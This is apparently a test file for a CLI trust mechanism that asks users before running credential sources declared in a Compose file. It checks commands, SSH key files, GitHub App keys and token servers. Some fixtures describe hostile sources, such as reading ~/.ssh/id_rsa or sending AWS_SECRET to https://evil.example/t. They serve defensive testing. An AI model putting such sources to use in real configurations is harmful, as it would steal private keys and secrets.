import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { asksOf, isTrusted, trust } from '../../../cli/sources/trust.ts'
import { loadProject, transform } from '../../../compose-transform/index.ts'
import { guidePolicy } from '../compose-transform/project.ts'

let folder: string
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'trust-'))
  mkdirSync(join(folder, 'project'))
  vi.stubEnv('XDG_STATE_HOME', join(folder, 'state'))
  write('governance-policy.yaml', guidePolicy)
})
afterEach(() => {
  vi.unstubAllEnvs()
  rmSync(folder, { recursive: true, force: true })
})

function write(name: string, text: string): void {
  writeFileSync(join(folder, 'project', name), text)
}

async function govern(sources: string, more = '') {
  write(
    'compose.yaml',
    `name: p\nservices:\n  a: { image: a, environment: [GITHUB_TOKEN] }\n${more}x-docker-ai-governance:\n  policy: ./governance-policy.yaml\n  credentials: { sources: { ${sources} } }\n`,
  )
  const loaded = await loadProject({
    files: [],
    projectDirectory: join(folder, 'project'),
    workingDirectory: join(folder, 'project'),
    environment: new Map([['HOME', homedir()]]),
    readFile: (path) => readFile(path, 'utf8'),
  })
  const { output, findings } = await transform(loaded)
  if (!output) throw new Error(JSON.stringify(findings))
  return output
}

const command = 'GITHUB_TOKEN: { command: [node, ./token.mjs] }'

describe('a Compose file that names sources', () => {
  it.each([
    ['a command', command, /^runs node \S+\/token\.mjs$/],
    ['a file', 'GITHUB_TOKEN: { file: ~/.ssh/id_rsa }', /^reads \/\S+\/\.ssh\/id_rsa$/],
    [
      'a GitHub App',
      'GITHUB_TOKEN: { githubApp: { appId: "7", installationId: "8", privateKey: { file: k } } }',
      /^reads \S+ and signs with it as GitHub App 7 at https:\/\/api\.github\.com$/,
    ],
    [
      'a token server that a variable is sent to',
      'GITHUB_TOKEN: { clientCredentials: { tokenUrl: "https://evil.example/t", clientId: i, clientSecret: { environment: AWS_SECRET } } }',
      /^takes the variable AWS_SECRET and sends it to https:\/\/evil\.example\/t$/,
    ],
  ])('is not trusted with %s until its caller says so', async (_, sources, words) => {
    const output = await govern(sources)
    const asks = asksOf(output)
    expect(asks).toHaveLength(1)
    expect(asks[0]?.words).toMatch(words)
    expect(asks[0]?.hosts).toEqual(['*.github.com:443'])
    expect(await isTrusted(output, asks)).toBe(false)
    await trust(output, asks)
    expect(await isTrusted(output, asks)).toBe(true)
  })

  it('is not trusted with a Docker secret either, which may be any file', async () => {
    const secrets = 'secrets: { s: { file: ~/.ssh/id_rsa } }\n'
    expect(asksOf(await govern('GITHUB_TOKEN: { secret: s }', secrets))).toHaveLength(1)
  })

  it('needs no trust for a variable, which any Compose file can name', async () => {
    expect(asksOf(await govern('GITHUB_TOKEN: { environment: OTHER }'))).toEqual([])
  })

  it('asks for nothing by a source that nobody uses', async () => {
    expect(asksOf(await govern('OPENAI_API_KEY: { command: [evil] }'))).toEqual([])
  })
})

describe('trust', () => {
  async function trustedOnce(sources = command) {
    write('token.mjs', 'console.log("a")')
    const output = await govern(sources)
    await trust(output, asksOf(output))
  }
  const still = async (sources = command) => {
    const output = await govern(sources)
    return isTrusted(output, asksOf(output))
  }

  it('stays when nothing of it changed', async () => {
    await trustedOnce()
    expect(await still()).toBe(true)
  })

  it('ends with another command', async () => {
    await trustedOnce()
    expect(await still('GITHUB_TOKEN: { command: [node, ./token.mjs, -x] }')).toBe(false)
  })

  it('ends when the script of the project that the command names has changed', async () => {
    await trustedOnce()
    write('token.mjs', 'console.log("b")')
    expect(await still()).toBe(false)
  })

  it('ends when the secret may go elsewhere', async () => {
    await trustedOnce()
    write(
      'governance-policy.yaml',
      guidePolicy.replace(
        '    maxExpirationHours: 24\n',
        '    maxExpirationHours: 24\n    bindings: { GITHUB_TOKEN: { hosts: [api.openai.com] } }\n',
      ),
    )
    expect(await still()).toBe(false)
  })

  it('is of one folder: a copy elsewhere is asked about', async () => {
    await trustedOnce()
    const output = await govern(command)
    expect(await isTrusted({ ...output, directory: '/elsewhere' }, asksOf(output))).toBe(false)
  })
})
